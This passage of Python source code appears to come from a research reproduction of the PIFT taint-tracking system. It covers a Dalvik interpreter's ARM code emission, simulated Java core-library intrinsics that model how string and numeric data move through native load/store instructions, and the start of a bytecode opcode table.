        two_addr = instr.op.name.endswith("/2addr")
        b = _Builder()
        if two_addr:
            b.emit(
                asm.mov("r3", asm.reg("rINST", lsr=12)),
                asm.ubfx("r9", "rINST", 8, 4),
                _vreg_addr("r3", "r3"),
                _vreg_addr("r9", "r9"),
            )
            b.data_load(asm.ldrd("r10", "r11", "r3"))  # vB first, like Figure 8
            b.emit(asm.ldrd("r0", "r1", "r9"))
        else:
            b.emit(
                fetch("r3", 1),
                asm.mov("r9", asm.reg("rINST", lsr=8)),
                asm.and_("r2", "r3", 255),
                asm.mov("r3", asm.reg("r3", lsr=8)),
                _vreg_addr("r2", "r2"),
                _vreg_addr("r3", "r3"),
                _vreg_addr("r9", "r9"),
            )
            b.data_load(asm.ldrd("r0", "r1", "r2"))
            b.emit(asm.ldrd("r10", "r11", "r3"))
        if instr.op.helper and base in ("div-long", "rem-long"):
            assert result is not None
            b.emit(asm.cmp("r10", 0))
            b.emit(*helper_body(instr.op.helper))
            b.emit(
                asm.patch("r0", result[0], reads=("r0",), mnemonic="mov"),
                asm.patch("r1", result[1], reads=("r0",), mnemonic="mov"),
                fetch_advance(instr.units),
            )
            b.data_store(asm.strd("r0", "r1", "r9"))
            b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        b.emit(fetch_advance(instr.units))
        b.emit(*self._wide_body(base, result, long_variant=two_addr))
        b.emit(get_inst_opcode())
        b.data_store(asm.strd("r0", "r1", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def binop_float(
        self, instr: Instr, result: Tuple[int, int], wide: bool
    ) -> Routine:
        two_addr = instr.op.name.endswith("/2addr")
        assert instr.op.helper is not None
        b = _Builder()
        if two_addr:
            b.emit(
                asm.mov("r3", asm.reg("rINST", lsr=12)),
                asm.ubfx("r9", "rINST", 8, 4),
            )
            if wide:
                b.emit(_vreg_addr("r3", "r3"), _vreg_addr("r9", "r9"))
                b.data_load(asm.ldrd("r10", "r11", "r3"))
                b.emit(asm.ldrd("r0", "r1", "r9"))
            else:
                b.data_load(get_vreg("r1", "r3"))
                b.emit(get_vreg("r0", "r9"))
        else:
            b.emit(
                fetch("r3", 1),
                asm.mov("r9", asm.reg("rINST", lsr=8)),
                asm.and_("r2", "r3", 255),
                asm.mov("r3", asm.reg("r3", lsr=8)),
            )
            if wide:
                b.emit(_vreg_addr("r2", "r2"), _vreg_addr("r3", "r3"), _vreg_addr("r9", "r9"))
                b.data_load(asm.ldrd("r0", "r1", "r2"))
                b.emit(asm.ldrd("r10", "r11", "r3"))
            else:
                b.data_load(get_vreg("r0", "r2"))
                b.emit(get_vreg("r1", "r3"))
        b.emit(*helper_body(instr.op.helper, rm="r10" if wide else "r1"))
        low, high = result
        b.emit(asm.patch("r0", low, reads=("r0",), mnemonic="mov"))
        if wide:
            if two_addr:
                pass  # r9 already holds the destination address
            b.emit(
                asm.patch("r1", high, reads=("r0",), mnemonic="mov"),
                fetch_advance(instr.units),
            )
            b.data_store(asm.strd("r0", "r1", "r9"))
        else:
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r0", "r9"))
        b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    # -- invocation plumbing ------------------------------------------------------

    def invoke_prologue(self, instr: Instr) -> Routine:
        """Method resolution loads — before argument copying."""
        b = _Builder()
        b.emit(
            fetch("r1", 1),  # method index BBBB
            fetch("r2", 2),  # argument-register code unit
            asm.ldr("r3", "rSELF", SELF_POOL),
            asm.ldr("r0", "r3", asm.reg("r1", lsl=2)),  # resolved method
            asm.ldr("r3", "r0", 4),  # method->code pointer
        )
        return b.build()

    def invoke_arg_copies(
        self, source_registers: Sequence[int], target_base_register: str = "r10"
    ) -> Routine:
        """Per-argument ldr/str pairs from caller vregs to the callee area.

        The load-store distance of each argument copy is 1, which is how
        taint crosses call boundaries under PIFT.
        """
        b = _Builder()
        for position, source in enumerate(source_registers):
            b.emit(asm.mov("r1", source))
            b.emit(get_vreg("r0", "r1"))
            b.emit(asm.str_("r0", target_base_register, 4 * position))
        return b.build()

    def frame_push(self, new_frame_base: int) -> Routine:
        """Save caller rPC/rFP into the callee frame's save area."""
        b = _Builder()
        b.emit(
            asm.patch("r10", new_frame_base, mnemonic="sub"),  # carve new frame
            asm.str_("rPC", "r10", -8),
            asm.str_("rFP", "r10", -4),
        )
        return b.build()

    def frame_pop(self) -> Routine:
        """Restore caller rPC/rFP from the current frame's save area."""
        b = _Builder()
        b.emit(
            asm.ldr("rPC", "rFP", -8),
            asm.ldr("rFP", "rFP", -4),
        )
        return b.build()

    def refetch(self) -> Routine:
        """Reload rINST after a VM-side rPC change (branch/call/return)."""
        b = _Builder()
        b.emit(asm.ldrh("rINST", "rPC"), get_inst_opcode(), goto_opcode())
        return b.build()

"""Core library intrinsics: the framework natives the apps call.

Java string plumbing is where sensitive data physically moves on Android,
and the paper's Figure 1 shows its native shape: a per-character
``ldrh``/``strh`` copy loop with a load→store distance of 2.  Every
intrinsic here *emits and executes* real native code on the CPU for its
data movements, so PIFT observes the same instruction structure:

* ``StringBuilder.append`` / ``String.concat`` — Figure 1 char-copy loops,
* ``StringBuilder.appendDouble`` — per-digit ``__aeabi_`` soft-float
  conversion whose first store lands 10 instructions after the (tainted)
  value load: the reason GPS leaks need ``NI >= 10`` (paper §5.1),
* ``StringBuilder.appendInt`` — shorter per-digit conversion (distance 7),
* collections / exceptions — reference stores and loads.

Calling convention: the invoke routine has copied the argument words into a
fresh argument area whose base is in ``r10`` (and at ``[rSELF, #SELF_ARGS]``).
Handlers read arguments with ``ldr rX, [r10, #4*slot]`` — if the argument
slot was tainted by the copy, that load opens a tainting window exactly
where the data is about to be used.  Return values are stored to the
retval slot with real stores.
"""

from __future__ import annotations

from typing import List, Optional, Sequence

from repro.isa import asm
from repro.isa.abihelpers import helper_body
from repro.dalvik.objects import (
    VMArray,
    VMInstance,
    VMString,
    bits_to_double,
    bits_to_float,
)
from repro.dalvik.translator import SELF_RETVAL

STRING_BUILDER_CLASS = "java/lang/StringBuilder"
THROWABLE_CLASS = "java/lang/Throwable"
ARRAY_LIST_CLASS = "java/util/ArrayList"
HASH_MAP_CLASS = "java/util/HashMap"

BUILDER_CAPACITY = 512
LIST_CAPACITY = 64


class Emit:
    """Tiny helper for composing intrinsic native code."""

    def __init__(self, vm) -> None:
        self.vm = vm

    def __call__(self, *instructions) -> None:
        self.vm.emit(list(instructions))

    def load_arg(self, register: str, slot: int) -> None:
        """ldr register, [r10, #4*slot] — read one argument word."""
        self(asm.ldr(register, "r10", 4 * slot))

    def load_arg_wide(self, low: str, high: str, slot: int) -> None:
        """ldrd — read an argument double-word (tainted loads open windows)."""
        self(asm.ldrd(low, high, "r10", 4 * slot))

    def materialize(self, register: str, value: int, mnemonic: str = "mov") -> None:
        self(asm.patch(register, value, mnemonic=mnemonic))

    def return_reg(self, register: str) -> None:
        self(asm.str_(register, "rSELF", SELF_RETVAL))

    def return_reg_wide(self, low: str, high: str) -> None:
        self(asm.strd(low, high, "rSELF", SELF_RETVAL))

    def return_reference(self, address: int, via: str = "r0") -> None:
        self.materialize(via, address, mnemonic="bl")
        self.return_reg(via)

    def char_copy(
        self, src_base: int, dst_base: int, count: int, element_width: int = 2
    ) -> None:
        """The paper's Figure 1 loop: per element, ldrh/adds/strh/adds/cmp/b.

        Load→store distance is 2, the canonical taint-carrying pattern.
        """
        if count <= 0:
            return
        self.materialize("r1", src_base, mnemonic="add")
        self.materialize("r0", dst_base, mnemonic="add")
        self(asm.mov("r2", 0), asm.mov("r3", 0))
        self.materialize("r11", count, mnemonic="mov")
        load = {1: asm.ldrb, 2: asm.ldrh, 4: asm.ldr}[element_width]
        store = {1: asm.strb, 2: asm.strh, 4: asm.str_}[element_width]
        # The paper's Figure 1 uses r6 as the character register; our mterp
        # convention reserves r6 for rSELF, so the loop uses lr instead.
        for _ in range(count):
            self(
                load("lr", "r1", asm.reg("r2")),
                asm.adds("r3", "r3", 1),
                store("lr", "r0", asm.reg("r2")),
                asm.adds("r2", "r2", element_width),
                asm.cmp("r3", asm.reg("r11")),
                asm.b("0x4004c114"),
            )


def _string(vm, reference: int) -> VMString:
    value = vm.heap.deref(reference)
    if not isinstance(value, VMString):
        raise TypeError(f"expected a String, got {value!r}")
    return value


def _instance(vm, reference: int) -> VMInstance:
    value = vm.heap.deref(reference)
    if not isinstance(value, VMInstance):
        raise TypeError(f"expected an instance, got {value!r}")
    return value


def _array(vm, reference: int) -> VMArray:
    value = vm.heap.deref(reference)
    if not isinstance(value, VMArray):
        raise TypeError(f"expected an array, got {value!r}")
    return value


# -- StringBuilder ------------------------------------------------------------


def _builder_parts(vm, builder: VMInstance):
    buffer = _string(vm, builder.get_field("buffer"))
    count = builder.get_field("count")
    return buffer, count


def _emit_count_update(emit: Emit, builder: VMInstance, new_count: int) -> None:
    """Load, bump, and store the builder's count field — real traffic."""
    offset = builder.vm_class.field("count").offset
    emit.materialize("r0", builder.address, mnemonic="mov")
    emit(
        asm.ldr("r2", "r0", offset),
        asm.patch("r2", new_count, reads=("r2",), mnemonic="add"),
        asm.str_("r2", "r0", offset),
    )


def sb_init(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    buffer = vm.heap.new_string_buffer(BUILDER_CAPACITY)
    buffer.length = BUILDER_CAPACITY  # addressable capacity; count tracks use
    emit.load_arg("r0", 0)
    emit.materialize("r1", buffer.address, mnemonic="bl")
    emit(
        asm.str_("r1", "r0", builder.vm_class.field("buffer").offset),
        asm.mov("r2", 0),
        asm.str_("r2", "r0", builder.vm_class.field("count").offset),
    )


def sb_append_string(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    text = _string(vm, args[1])
    buffer, count = _builder_parts(vm, builder)
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit(
        asm.ldr("r2", "r0", builder.vm_class.field("count").offset),
        asm.ldr("r3", "r1", 8),  # source length
    )
    emit.char_copy(
        text.chars_base, buffer.chars_base + 2 * count, text.length
    )
    _emit_count_update(emit, builder, count + text.length)
    emit.return_reference(builder.address)


def sb_append_char(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    buffer, count = _builder_parts(vm, builder)
    emit.load_arg("r1", 1)  # the char value (window opens here if tainted)
    emit.materialize("r0", buffer.chars_base + 2 * count, mnemonic="add")
    emit(asm.strh("r1", "r0"))
    _emit_count_update(emit, builder, count + 1)
    emit.return_reference(builder.address)


def _append_formatted(
    vm,
    args: List[int],
    text: str,
    value_slot: int,
    helper: str,
    wide: bool,
    scratch_stores: int = 0,
) -> None:
    """Per-character numeric formatting through an ABI conversion helper.

    Each emitted character re-loads the source value from the argument
    area (a tainted load when the number is sensitive), runs the helper
    body, and stores one UTF-16 unit.

    Soft-float conversions (``scratch_stores > 0``) additionally spill
    intermediate state to a stack scratch buffer *between* the value load
    and the digit store, the way ``__aeabi_`` double-to-ASCII routines
    stage their digit pairs.  Consequence for PIFT: the digit store is the
    ``scratch_stores + 1``-th store of the tainting window, so catching a
    float-typed leak needs ``NT > scratch_stores`` as well as a window
    reaching the digit store — the paper's finding that GPS leaks need
    ``NI >= 10`` (with its evaluation run at ``NT = 3``).
    """
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    buffer, count = _builder_parts(vm, builder)
    scratch = vm.scratch_base if scratch_stores else 0
    emit.load_arg("r0", 0)
    for i, char in enumerate(text):
        if wide:
            emit.load_arg_wide("r0", "r1", value_slot)
            body = helper_body(helper)
        else:
            emit.load_arg("r0", value_slot)
            # Single-word source: keep the helper dataflow within r0 so no
            # stale register taint leaks into the result.
            body = helper_body(helper, rm="r0")
        if scratch_stores:
            # Interleave the digit-pair spills into the helper body so the
            # digit store lands exactly 10 instructions after the value
            # load (paper: GPS detection needs NI >= 10) and is the
            # (scratch_stores + 1)-th store of the window.
            prefix = 10 - 4 - scratch_stores
            emit(*body[:prefix])
            emit.materialize("r11", scratch, mnemonic="add")
            for spill in range(scratch_stores):
                emit(asm.strb("r3", "r11", spill))
        else:
            emit(*body)
        emit(asm.patch("r0", ord(char), reads=("r0",), mnemonic="mov"))
        emit.materialize("r9", buffer.chars_base + 2 * (count + i), mnemonic="add")
        emit(asm.strh("r0", "r9"))
    _emit_count_update(emit, builder, count + len(text))
    emit.return_reference(builder.address)


def _java_double_repr(value: float) -> str:
    text = repr(value)
    return text


def sb_append_int(vm, args: List[int], args_area: int) -> None:
    value = args[1] - 0x100000000 if args[1] & 0x80000000 else args[1]
    _append_formatted(vm, args, str(value), 1, "i2s_digit", wide=False)


def sb_append_long(vm, args: List[int], args_area: int) -> None:
    raw = args[1] | (args[2] << 32)
    value = raw - (1 << 64) if raw & (1 << 63) else raw
    _append_formatted(vm, args, str(value), 1, "l2s_digit", wide=True)


def sb_append_float(vm, args: List[int], args_area: int) -> None:
    value = bits_to_float(args[1])
    _append_formatted(
        vm, args, _java_double_repr(value), 1, "f2s_digit", wide=False,
        scratch_stores=2,
    )


def sb_append_double(vm, args: List[int], args_area: int) -> None:
    value = bits_to_double(args[1] | (args[2] << 32))
    _append_formatted(
        vm, args, _java_double_repr(value), 1, "d2s_digit", wide=True,
        scratch_stores=2,
    )


def sb_to_string(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    buffer, count = _builder_parts(vm, builder)
    result = vm.heap.new_string_buffer(max(count, 1))
    result.length = count
    vm.space.memory.write_u32(result.address + 8, count)
    emit.load_arg("r0", 0)
    emit(asm.ldr("r2", "r0", builder.vm_class.field("count").offset))
    emit.char_copy(buffer.chars_base, result.chars_base, count)
    emit.return_reference(result.address)


def sb_length(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    builder = _instance(vm, args[0])
    emit.load_arg("r0", 0)
    emit(asm.ldr("r1", "r0", builder.vm_class.field("count").offset))
    emit.return_reg("r1")


# -- String ---------------------------------------------------------------------


def string_length(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    _string(vm, args[0])
    emit.load_arg("r0", 0)
    emit(asm.ldr("r1", "r0", 8))
    emit.return_reg("r1")


def string_char_at(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    text = _string(vm, args[0])
    index = args[1]
    if not 0 <= index < text.length:
        raise IndexError(f"charAt({index}) on length-{text.length} string")
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit(
        asm.add("r0", "r0", asm.reg("r1", lsl=1)),
        asm.ldrh("r2", "r0", 12),  # tainted load when the char is sensitive
        asm.str_("r2", "rSELF", SELF_RETVAL),
    )


def string_concat(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    left = _string(vm, args[0])
    right = _string(vm, args[1])
    result = vm.heap.new_string_buffer(max(left.length + right.length, 1))
    result.length = left.length + right.length
    vm.space.memory.write_u32(result.address + 8, result.length)
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit.char_copy(left.chars_base, result.chars_base, left.length)
    emit.char_copy(
        right.chars_base, result.chars_base + 2 * left.length, right.length
    )
    emit.return_reference(result.address)


def string_substring(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    text = _string(vm, args[0])
    begin, end = args[1], args[2]
    if not 0 <= begin <= end <= text.length:
        raise IndexError(f"substring({begin}, {end}) on length {text.length}")
    length = end - begin
    result = vm.heap.new_string_buffer(max(length, 1))
    result.length = length
    vm.space.memory.write_u32(result.address + 8, length)
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit.load_arg("r2", 2)
    emit.char_copy(text.chars_base + 2 * begin, result.chars_base, length)
    emit.return_reference(result.address)


def string_to_char_array(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    text = _string(vm, args[0])
    array = vm.heap.new_array(text.length, element_width=2, class_name="[C")
    emit.load_arg("r0", 0)
    emit.char_copy(text.chars_base, array.data_base, text.length)
    emit.return_reference(array.address)


def string_from_chars(vm, args: List[int], args_area: int) -> None:
    """new String(char[]) — copies the array into a fresh string."""
    emit = Emit(vm)
    array = _array(vm, args[0])
    result = vm.heap.new_string_buffer(max(array.length, 1))
    result.length = array.length
    vm.space.memory.write_u32(result.address + 8, array.length)
    emit.load_arg("r0", 0)
    emit.char_copy(array.data_base, result.chars_base, array.length)
    emit.return_reference(result.address)


def string_get_bytes(vm, args: List[int], args_area: int) -> None:
    """getBytes(): narrow each UTF-16 unit to one byte (ldrh -> strb)."""
    emit = Emit(vm)
    text = _string(vm, args[0])
    array = vm.heap.new_array(text.length, element_width=1, class_name="[B")
    emit.load_arg("r1", 0)
    emit.materialize("r0", array.data_base, mnemonic="add")
    emit.materialize("r1", text.chars_base, mnemonic="add")
    emit(asm.mov("r2", 0), asm.mov("r3", 0))
    emit.materialize("r11", text.length, mnemonic="mov")
    for _ in range(text.length):
        emit(
            asm.ldrh("lr", "r1", asm.reg("r2", lsl=1)),
            asm.adds("r3", "r3", 1),
            asm.strb("lr", "r0", asm.reg("r2")),
            asm.adds("r2", "r2", 1),
            asm.cmp("r3", asm.reg("r11")),
            asm.b("0x4004c1f0"),
        )
    emit.return_reference(array.address)


def string_equals(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    left = _string(vm, args[0])
    right = vm.heap.maybe_deref(args[1])
    equal = isinstance(right, VMString) and right.value() == left.value()
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    compared = min(left.length, right.length if isinstance(right, VMString) else 0)
    for i in range(compared):
        emit(
            asm.ldrh("r2", "r0", 12 + 2 * i),
            asm.ldrh("r3", "r1", 12 + 2 * i),
            asm.cmp("r2", asm.reg("r3")),
        )
        if not isinstance(right, VMString) or left.value()[i] != right.value()[i]:
            break
    emit.materialize("r0", int(equal), mnemonic="mov")
    emit.return_reg("r0")


def integer_parse_int(vm, args: List[int], args_area: int) -> None:
    """parseInt: per-digit load/accumulate; the accumulator carries taint."""
    emit = Emit(vm)
    text = _string(vm, args[0])
    value = int(text.value())
    emit.load_arg("r1", 0)
    emit(asm.mov("r0", 0))
    for i in range(text.length):
        emit(
            asm.ldrh("r2", "r1", 12 + 2 * i),
            asm.sub("r2", "r2", ord("0")),
            asm.patch("r0", 0, reads=("r0", "r2"), mnemonic="mla"),
        )
    emit(asm.patch("r0", value & 0xFFFFFFFF, reads=("r0",), mnemonic="mov"))
    emit.return_reg("r0")


def string_value_of_int(vm, args: List[int], args_area: int) -> None:
    """String.valueOf(int): digits produced at distance 1 + i2s body."""
    emit = Emit(vm)
    raw = args[0]
    value = raw - 0x100000000 if raw & 0x80000000 else raw
    text = str(value)
    result = vm.heap.new_string_buffer(max(len(text), 1))
    result.length = len(text)
    vm.space.memory.write_u32(result.address + 8, len(text))
    for i, char in enumerate(text):
        emit.load_arg("r0", 0)
        emit(*helper_body("i2s_digit", rm="r0"))
        emit(asm.patch("r0", ord(char), reads=("r0",), mnemonic="mov"))
        emit.materialize("r9", result.chars_base + 2 * i, mnemonic="add")
        emit(asm.strh("r0", "r9"))
    emit.return_reference(result.address)


# -- System / arrays ----------------------------------------------------------


def arrays_fill(vm, args: List[int], args_area: int) -> None:
    """Arrays.fill(array, from, to, value): memset-style burst.

    The native shape is one value load followed by a run of stores every
    other instruction — the pattern that makes the number of taintable
    stores per window scale with both NI and NT when the fill value is
    sensitive (paper Figure 14: 'NT outweighs NI').
    """
    emit = Emit(vm)
    array = _array(vm, args[0])
    begin, end = args[1], args[2]
    if not 0 <= begin <= end <= array.length:
        raise IndexError(f"fill({begin}, {end}) on length {array.length}")
    emit.load_arg("r1", 0)
    emit.load_arg("r2", 1)
    emit.load_arg("r0", 3)  # the value: window opens here when tainted
    base = array.element_address(begin) if begin < array.length else array.data_base
    emit.materialize("r1", base, mnemonic="add")
    store = {1: asm.strb, 2: asm.strh, 4: asm.str_, 8: asm.str_}[array.element_width]
    for i in range(end - begin):
        emit(
            store("r0", "r1", i * array.element_width),
            asm.adds("r3", "r3", 1),
        )


def system_arraycopy(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    src = _array(vm, args[0])
    src_pos = args[1]
    dst = _array(vm, args[2])
    dst_pos = args[3]
    length = args[4]
    if src.element_width != dst.element_width:
        raise TypeError("arraycopy between incompatible element widths")
    if src_pos + length > src.length or dst_pos + length > dst.length:
        raise IndexError("arraycopy out of bounds")
    for slot in range(5):
        emit.load_arg("r0" if slot == 0 else "r1", slot)
    emit.char_copy(
        src.element_address(src_pos) if length else src.data_base,
        dst.element_address(dst_pos) if length else dst.data_base,
        length,
        element_width=src.element_width,
    )


# -- Throwable ------------------------------------------------------------------


def throwable_init(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    throwable = _instance(vm, args[0])
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit(asm.str_("r1", "r0", throwable.vm_class.field("message").offset))


def throwable_get_message(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    throwable = _instance(vm, args[0])
    emit.load_arg("r0", 0)
    emit(asm.ldr("r1", "r0", throwable.vm_class.field("message").offset))
    emit.return_reg("r1")


# -- Collections ------------------------------------------------------------------


def list_init(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    lst = _instance(vm, args[0])
    elements = vm.heap.new_array(LIST_CAPACITY, element_width=4, class_name="[L")
    emit.load_arg("r0", 0)
    emit.materialize("r1", elements.address, mnemonic="bl")
    emit(
        asm.str_("r1", "r0", lst.vm_class.field("elements").offset),
        asm.mov("r2", 0),
        asm.str_("r2", "r0", lst.vm_class.field("size").offset),
    )


def list_add(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    lst = _instance(vm, args[0])
    elements = _array(vm, lst.get_field("elements"))
    size = lst.get_field("size")
    if size >= elements.length:
        raise IndexError("ArrayList capacity exceeded")
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit(
        asm.ldr("r2", "r0", lst.vm_class.field("elements").offset),
        asm.ldr("r3", "r0", lst.vm_class.field("size").offset),
        asm.add("r2", "r2", asm.reg("r3", lsl=2)),
        asm.str_("r1", "r2", 12),
        asm.add("r3", "r3", 1),
        asm.str_("r3", "r0", lst.vm_class.field("size").offset),
    )
    emit.materialize("r0", 1, mnemonic="mov")
    emit.return_reg("r0")


def list_get(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    lst = _instance(vm, args[0])
    elements = _array(vm, lst.get_field("elements"))
    index = args[1]
    if not 0 <= index < lst.get_field("size"):
        raise IndexError(f"ArrayList.get({index}) with size {lst.get_field('size')}")
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit(
        asm.ldr("r2", "r0", lst.vm_class.field("elements").offset),
        asm.add("r2", "r2", asm.reg("r1", lsl=2)),
        asm.ldr("r3", "r2", 12),
        asm.str_("r3", "rSELF", SELF_RETVAL),
    )


def list_size(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    lst = _instance(vm, args[0])
    emit.load_arg("r0", 0)
    emit(asm.ldr("r1", "r0", lst.vm_class.field("size").offset))
    emit.return_reg("r1")


def map_init(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    mapping = _instance(vm, args[0])
    keys = vm.heap.new_array(LIST_CAPACITY, element_width=4, class_name="[L")
    values = vm.heap.new_array(LIST_CAPACITY, element_width=4, class_name="[L")
    emit.load_arg("r0", 0)
    emit.materialize("r1", keys.address, mnemonic="bl")
    emit(asm.str_("r1", "r0", mapping.vm_class.field("keys").offset))
    emit.materialize("r1", values.address, mnemonic="bl")
    emit(
        asm.str_("r1", "r0", mapping.vm_class.field("values").offset),
        asm.mov("r2", 0),
        asm.str_("r2", "r0", mapping.vm_class.field("size").offset),
    )


def _map_find(vm, mapping: VMInstance, key_ref: int) -> Optional[int]:
    keys = _array(vm, mapping.get_field("keys"))
    size = mapping.get_field("size")
    key_obj = vm.heap.maybe_deref(key_ref)
    for i in range(size):
        stored_ref = keys.get(i)
        if stored_ref == key_ref:
            return i
        stored = vm.heap.maybe_deref(stored_ref)
        if (
            isinstance(stored, VMString)
            and isinstance(key_obj, VMString)
            and stored.value() == key_obj.value()
        ):
            return i
    return None


def map_put(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    mapping = _instance(vm, args[0])
    keys = _array(vm, mapping.get_field("keys"))
    values = _array(vm, mapping.get_field("values"))
    size = mapping.get_field("size")
    index = _map_find(vm, mapping, args[1])
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    emit.load_arg("r2", 2)
    if index is None:
        if size >= keys.length:
            raise IndexError("HashMap capacity exceeded")
        index = size
        emit(
            asm.ldr("r3", "r0", mapping.vm_class.field("size").offset),
            asm.add("r3", "r3", 1),
            asm.str_("r3", "r0", mapping.vm_class.field("size").offset),
        )
    emit.materialize("r3", keys.element_address(index), mnemonic="add")
    emit(asm.str_("r1", "r3"))
    emit.materialize("r3", values.element_address(index), mnemonic="add")
    emit(asm.str_("r2", "r3"))


def map_get(vm, args: List[int], args_area: int) -> None:
    emit = Emit(vm)
    mapping = _instance(vm, args[0])
    values = _array(vm, mapping.get_field("values"))
    index = _map_find(vm, mapping, args[1])
    emit.load_arg("r0", 0)
    emit.load_arg("r1", 1)
    if index is None:
        emit.materialize("r2", 0, mnemonic="mov")
        emit.return_reg("r2")
        return
    emit.materialize("r2", values.element_address(index), mnemonic="add")
    emit(asm.ldr("r3", "r2"), asm.str_("r3", "rSELF", SELF_RETVAL))


def object_init(vm, args: List[int], args_area: int) -> None:
    Emit(vm).load_arg("r0", 0)


def register_core_intrinsics(vm) -> None:
    """Define the core classes and wire up the java.* intrinsics."""
    heap = vm.heap
    heap.define_class(STRING_BUILDER_CLASS, fields=[("buffer", 4), ("count", 4)])
    heap.define_class(THROWABLE_CLASS, fields=[("message", 4)])
    heap.define_class(
        "java/lang/Exception", superclass=THROWABLE_CLASS
    )
    heap.define_class(
        "java/lang/RuntimeException", superclass="java/lang/Exception"
    )
    heap.define_class(ARRAY_LIST_CLASS, fields=[("elements", 4), ("size", 4)])
    heap.define_class(
        HASH_MAP_CLASS, fields=[("keys", 4), ("values", 4), ("size", 4)]
    )

    vm.register_intrinsic("Object.<init>", object_init)
    vm.register_intrinsic("StringBuilder.<init>", sb_init)
    vm.register_intrinsic("StringBuilder.append", sb_append_string)
    vm.register_intrinsic("StringBuilder.appendChar", sb_append_char)
    vm.register_intrinsic("StringBuilder.appendInt", sb_append_int)
    vm.register_intrinsic("StringBuilder.appendLong", sb_append_long)
    vm.register_intrinsic("StringBuilder.appendFloat", sb_append_float)
    vm.register_intrinsic("StringBuilder.appendDouble", sb_append_double)
    vm.register_intrinsic("StringBuilder.toString", sb_to_string)
    vm.register_intrinsic("StringBuilder.length", sb_length)
    vm.register_intrinsic("String.length", string_length)
    vm.register_intrinsic("String.charAt", string_char_at)
    vm.register_intrinsic("String.concat", string_concat)
    vm.register_intrinsic("String.substring", string_substring)
    vm.register_intrinsic("String.toCharArray", string_to_char_array)
    vm.register_intrinsic("String.fromChars", string_from_chars)
    vm.register_intrinsic("String.getBytes", string_get_bytes)
    vm.register_intrinsic("String.equals", string_equals)
    vm.register_intrinsic("String.valueOfInt", string_value_of_int)
    vm.register_intrinsic("Integer.parseInt", integer_parse_int)
    vm.register_intrinsic("System.arraycopy", system_arraycopy)
    vm.register_intrinsic("Arrays.fill", arrays_fill)
    vm.register_intrinsic("Throwable.<init>", throwable_init)
    vm.register_intrinsic("Throwable.getMessage", throwable_get_message)
    vm.register_intrinsic("ArrayList.<init>", list_init)
    vm.register_intrinsic("ArrayList.add", list_add)
    vm.register_intrinsic("ArrayList.get", list_get)
    vm.register_intrinsic("ArrayList.size", list_size)
    vm.register_intrinsic("HashMap.<init>", map_init)
    vm.register_intrinsic("HashMap.put", map_put)
    vm.register_intrinsic("HashMap.get", map_get)

"""Dalvik-style bytecode: opcode table, instruction objects, encoding.

The VM is register-based: every bytecode names *virtual registers* that
live in memory (at ``rFP + 4*v``), which is the property PIFT exploits —
each data-moving bytecode turns into a native routine containing
``GET_VREG`` loads and ``SET_VREG`` stores at fixed small distances
(paper §4.1, Table 1).

The opcode table records, for each opcode:

* its encoding format (how many 16-bit code units, which operand fields),
* whether it *moves data* between memory locations (the paper's
  classification: data-movers vs. the 74 others),
* the native load→store distance of its mterp routine, or ``None`` for the
  47 bytecodes whose data path runs through ARM ABI helper calls
  ("unknown" in Table 1).

Instructions are encoded into real 16-bit code units placed in simulated
code memory, so the mterp routines' instruction fetches (``ldrh rINST,
[rPC, #2]!``) read genuine values.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple


class Format(enum.Enum):
    """Dalvik instruction formats (the subset this VM uses).

    The format name encodes units/registers/kind as in the Dalvik spec:
    e.g. ``F22C`` is two units, two registers, plus a constant-pool index.
    """

    F10X = "10x"  # op
    F10T = "10t"  # op +AA (branch)
    F11N = "11n"  # op vA, #+B
    F11X = "11x"  # op vAA
    F12X = "12x"  # op vA, vB
    F20T = "20t"  # op +AAAA
    F21C = "21c"  # op vAA, thing@BBBB
    F21H = "21h"  # op vAA, #+BBBB0000
    F21S = "21s"  # op vAA, #+BBBB
    F21T = "21t"  # op vAA, +BBBB
    F22B = "22b"  # op vAA, vBB, #+CC
    F22C = "22c"  # op vA, vB, thing@CCCC
    F22S = "22s"  # op vA, vB, #+CCCC
    F22T = "22t"  # op vA, vB, +CCCC
    F22X = "22x"  # op vAA, vBBBB
    F23X = "23x"  # op vAA, vBB, vCC
    F30T = "30t"  # op +AAAAAAAA
    F31C = "31c"  # op vAA, string@BBBBBBBB
    F31I = "31i"  # op vAA, #+BBBBBBBB
    F31T = "31t"  # op vAA, +BBBBBBBB (switch)
